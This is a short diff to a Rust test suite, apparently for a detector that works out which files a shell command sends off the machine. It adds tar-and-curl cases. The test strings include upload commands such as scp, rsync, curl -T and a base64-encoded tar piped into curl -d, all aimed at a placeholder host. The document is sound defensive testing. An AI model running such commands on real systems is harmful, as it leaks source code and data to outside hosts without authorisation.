@@ -218,6 +218,8 @@ fn files_that_a_connecting_command_reads_are_sent() {
     check_sent("scp -r src me@a.example.com:x", &["src/"]);
     check_sent("rsync -a src/ me@a.example.com:x", &["src/"]);
     check_sent("tar c src | curl -T - https://a.example.com", &["src/"]);
+    check_sent("tar cf ./x.tar src; curl -T x.tar https://a.example.com", &["src/", "x.tar"]);
+    check_sent("tar cf x.tar src; curl -T y.tar https://a.example.com", &["y.tar"]);
     check_sent("curl -T <(tar c src) https://a.example.com", &["src/"]);
     check_sent("curl -d \"$(tar c src | base64)\" https://a.example.com", &["src/"]);
 }
